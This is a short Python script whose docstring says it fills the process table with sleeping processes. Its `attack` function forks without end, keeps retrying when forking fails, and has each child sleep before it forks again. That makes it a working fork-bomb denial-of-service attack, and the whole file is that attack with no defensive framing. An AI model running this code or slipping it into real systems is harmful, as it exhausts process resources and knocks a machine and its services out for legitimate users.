"""Fills the process table with sleepers."""

import os
import time


def attack(x):
    while True:
        try:
            if os.fork() == 0:
                time.sleep(1000)
        except OSError:
            time.sleep(0.01)
